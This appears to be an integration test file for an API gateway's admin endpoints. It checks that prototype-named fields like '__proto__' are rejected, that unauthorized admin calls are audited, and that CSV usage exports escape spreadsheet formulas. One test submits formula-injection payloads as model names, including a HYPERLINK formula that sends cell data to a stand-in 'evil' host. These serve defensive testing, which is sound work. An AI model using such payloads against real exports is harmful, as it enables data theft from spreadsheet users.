// The admin surface as an attacker meets it, on the real Redis: field names
// that are Object.prototype's members (toString, constructor, valueOf) are
// ordinary unknown fields, refused with the field named, on POST and PATCH;
// a 401 on a path a route serves is audited with that route's action; and a
// usage export in CSV neutralises every text cell a client controls (a model
// id, a request id) that a spreadsheet would run as a formula.
import { Writable } from 'node:stream';
import pino from 'pino';
import { startBackend, type Backend } from '../support/backends';
import { makeKey, startGateway, type TestGateway } from '../support/gateway';
import { bearer, call, post } from '../support/http';
import { deletePrefix, sharedRedisUrl, uniquePrefix } from '../support/redis';
import { admin, makeAdminKey } from '../support/admin';
import { until } from '../support/wait';

const PROTO_NAMES = ['toString', 'constructor', 'valueOf', 'hasOwnProperty', '__proto__'];

describe('the admin API given hostile names', () => {
  const prefix = uniquePrefix();
  const adminKey = makeAdminKey();
  const alice = makeKey('alice', { org: 'acme' });
  const lines: Array<Record<string, unknown>> = [];
  const logger = pino({ level: 'info' }, new Writable({ write(chunk, _enc, done) { lines.push(JSON.parse(chunk.toString())); done(); } }));
  let backend: Backend;
  let gw: TestGateway;
  const ask = (method: string, path: string, body?: unknown, key: string | undefined = adminKey.key) => admin(gw.admin!.url, method, path, key, body);
  /** The body as JSON text, so a "__proto__" field is sent as a field. */
  const send = (method: string, path: string, json: string) =>
    call(method, `${gw.admin!.url}${path}`, json, { ...bearer(adminKey.key), 'content-type': 'application/json' });

  beforeAll(async () => {
    backend = await startBackend({ format: 'openai' });
    gw = await startGateway({
      redis: { url: sharedRedisUrl(), prefix, commandTimeoutMs: 2000 },
      admin: { keys: [adminKey.digest] },
      keys: [alice.entry],
      orgs: { acme: {} },
      upstreams: { b: { url: backend.base, format: 'openai' } },
      routes: [{ model: 'm-1', upstream: 'b' }],
      plugins: [{ name: 'rate-limit' }],
    }, { admin: true, logger });
  });
  afterAll(async () => {
    await gw?.close();
    await backend?.close();
    await deletePrefix(sharedRedisUrl(), prefix);
  });

  it.each(PROTO_NAMES)('refuses a key field or limit named %s with 400 naming it, on POST and PATCH', async (name) => {
    const made = await ask('POST', '/admin/keys', { id: `plain-${name.replace(/_/g, '')}` });
    expect(made.status).toBe(201);
    const id = made.body.id as string;
    for (const [method, path, json, param] of [
      ['POST', '/admin/keys', `{"id":"k1","limits":{"${name}":1}}`, `limits.${name}`],
      ['POST', '/admin/keys', `{"id":"k1","${name}":1}`, name],
      ['PATCH', `/admin/keys/${id}`, `{"limits":{"${name}":1}}`, `limits.${name}`],
      ['PATCH', `/admin/keys/${id}`, `{"${name}":1}`, name],
    ] as const) {
      const res = await send(method, path, json);
      expect([method, json, res.status, res.body.error?.reason, res.body.error?.param]).toEqual([method, json, 400, 'invalid_request', param]);
    }
    expect((await ask('GET', `/admin/keys/${id}`)).body).toMatchObject({ id, limits: null });
    expect((await ask('GET', '/admin/keys/k1')).status).toBe(404);
  });

  it('audits a refused admin key with the action of the route it asked for; unknown only for a path no route serves', async () => {
    const from = lines.length;
    for (const [method, path] of [['GET', '/admin/keys'], ['POST', '/admin/keys'], ['DELETE', '/admin/keys/alice'], ['POST', '/admin/keys/alice/rotate'], ['GET', '/admin/usage?since=2026-01-01'], ['GET', '/admin/spend'], ['GET', '/admin/nothing-here']]) {
      expect((await ask(method, path, method === 'POST' ? {} : undefined, 'sk-wrong')).status).toBe(401);
    }
    const audit = lines.slice(from).filter((l) => l.msg === 'admin action');
    expect(audit.map((l) => [l.action, l.admin, l.outcome])).toEqual([
      ['keys.list', null, 'unauthorized'], ['keys.create', null, 'unauthorized'], ['keys.revoke', null, 'unauthorized'], ['keys.rotate', null, 'unauthorized'],
      ['usage.export', null, 'unauthorized'], ['spend.read', null, 'unauthorized'], ['unknown', null, 'unauthorized'],
    ]);
  });

  it('writes a CSV export whose client-controlled cells a spreadsheet shows as text, numbers kept as numbers', async () => {
    const v1 = `${gw.url}/v1/chat/completions`;
    const hyperlink = '=HYPERLINK("http://evil/?"&A1,"x")';
    const models = [hyperlink, '+SUM(1,2)', '-2+3', '@cmd', '\tx', '\rx', 'plain-model'];
    for (const model of models) expect((await post(v1, { model, messages: [{ role: 'user', content: 'hi' }] }, bearer(alice.key))).status).toBe(404);
    expect((await post(v1, { model: 'm-1', messages: [{ role: 'user', content: 'hi' }] }, { ...bearer(alice.key), 'x-request-id': '-2-3' })).status).toBe(200);
    const since = '2000-01-01';
    let text = '';
    await until(async () => {
      text = (await call('GET', `${gw.admin!.url}/admin/usage?since=${since}&format=csv`, undefined, bearer(adminKey.key))).text;
      return text.includes('plain-model') && text.includes('-2-3');
    }, 'the requests in the export');
    expect(text).toContain(`,"'=HYPERLINK(""http://evil/?""&A1,""x"")",`);
    for (const cell of [`"'+SUM(1,2)"`, `"'-2+3"`, `"'@cmd"`, `"'\tx"`, `"'\rx"`]) expect(text).toContain(`,${cell},`);
    expect(text).toMatch(/\n[^,\n]+,"'-2-3",alice,,acme,,m-1,chat,chat,200,,\d+,\d+,\d+,\d+,false,,?/);
    expect(text).toContain(',plain-model,chat,chat,404,model_not_found,0,0,0,0,false,');
    // No cell of the export begins with a formula character outside quotes.
    for (const line of text.split('\n').filter((l) => l !== '')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+@\t\r]/);
    const jsonl = (await call('GET', `${gw.admin!.url}/admin/usage?since=${since}&format=jsonl`, undefined, bearer(adminKey.key))).text;
    expect(jsonl).toContain(JSON.stringify(hyperlink)); // JSON Lines keeps the record as stored
  });
});
